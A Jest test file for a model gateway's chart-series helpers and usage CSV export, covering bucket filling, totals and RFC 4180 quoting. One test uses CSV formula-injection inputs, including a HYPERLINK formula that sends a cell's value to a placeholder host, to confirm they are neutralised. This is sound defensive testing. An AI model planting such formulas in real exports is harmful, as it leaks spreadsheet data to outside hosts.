import { describe, expect, it } from '@jest/globals';
import type { UsageSeriesPoint } from '@modelgate/gateway/admin-types';
import { seriesTotals, toChartData } from '../src/lib/series-table.js';
import { usageCsv, type UsageCsvRecord } from '../src/lib/usage-csv.js';

const HOUR = 3_600_000;
const point = (bucketStart: number, group: string, requests: number, errors = 0): UsageSeriesPoint => ({
  bucketStart, group, requests, errors, promptTokens: requests * 10, completionTokens: requests, costUsd: requests / 100, latencyP50Ms: 5, latencyP95Ms: 9, latencyP99Ms: 9,
});

describe('toChartData', () => {
  it('fills quiet buckets with zero and gives each group its line and total', () => {
    const chart = toChartData([point(0, 'b', 2), point(2 * HOUR, 'a', 1), point(2 * HOUR, 'b', 3)], HOUR, (row) => row.requests);
    expect(chart.times).toEqual([0, 3_600, 7_200]);
    expect(chart.lines).toEqual([
      { label: 'a', values: [0, 0, 1], total: 1 },
      { label: 'b', values: [2, 0, 3], total: 5 },
    ]);
  });

  it('keeps a ratio without requests empty (null), and sums the tiles', () => {
    const rows = [point(0, '', 0), point(HOUR, '', 4, 1)];
    expect(toChartData(rows, HOUR, (row) => (row.requests ? row.errors / row.requests : null)).lines).toEqual([{ label: 'all', values: [null, 0.25], total: 0.25 }]);
    expect(seriesTotals(rows)).toEqual({ requests: 4, errors: 1, tokens: 44, costUsd: 0.04 });
  });
});

describe('usageCsv', () => {
  it('writes a header and one RFC 4180 line per record, quoting what needs it', () => {
    const record: UsageCsvRecord = {
      requestId: 'req,"1"', keyId: 'key_1', model: 'gpt-test', deployment: 'openai/gpt-4.1-mini', endpoint: 'chat', status: 200, outcome: 'completed',
      promptTokens: 12, completionTokens: 3, costUsd: 0.0001, latencyMs: 41.6, createdAt: Date.UTC(2025, 0, 10, 12),
    };
    expect(usageCsv([record]).split('\r\n')).toEqual([
      'time,request_id,key_id,endpoint,model,deployment,status,outcome,prompt_tokens,completion_tokens,cache_read_tokens,cache_write_tokens,cache_write_1h_tokens,response_cache_hit,cost_usd,latency_ms',
      '2025-01-10T12:00:00.000Z,"req,""1""",key_1,chat,gpt-test,openai/gpt-4.1-mini,200,completed,12,3,0,0,0,0,0.0001,42',
      '',
    ]);
  });

  it('turns a client-chosen text that a spreadsheet would run as a formula into text (issue 27)', () => {
    const record: UsageCsvRecord = {
      requestId: '-2+3', keyId: 'key_1', model: '=HYPERLINK("http://x.example/?"&A1,"ok")', deployment: '@SUM(A1)', endpoint: 'chat', status: 200, outcome: 'completed',
      promptTokens: 12, completionTokens: 3, costUsd: 0.5, latencyMs: 2, createdAt: Date.UTC(2025, 0, 10, 12),
    };
    expect(usageCsv([record]).split('\r\n')[1]).toBe(`2025-01-10T12:00:00.000Z,'-2+3,key_1,chat,"'=HYPERLINK(""http://x.example/?""&A1,""ok"")",'@SUM(A1),200,completed,12,3,0,0,0,0,0.5,2`);
  });

  it('writes the prompt-cache reads and writes and the response-cache hits', () => {
    const record: UsageCsvRecord = {
      requestId: 'r', keyId: 'key_1', model: 'claude', deployment: 'anthropic/claude-sonnet-4-5', endpoint: 'responses', status: 200, outcome: 'completed',
      promptTokens: 1_500, completionTokens: 3, cachedTokens: 1_200, cacheWriteTokens: 250, cacheWrite1hTokens: 250, cacheHit: true, costUsd: 0, latencyMs: 2, createdAt: Date.UTC(2025, 0, 10, 12),
    };
    expect(usageCsv([record]).split('\r\n')[1]).toBe('2025-01-10T12:00:00.000Z,r,key_1,responses,claude,anthropic/claude-sonnet-4-5,200,completed,1500,3,1200,250,250,1,0,2');
  });
});
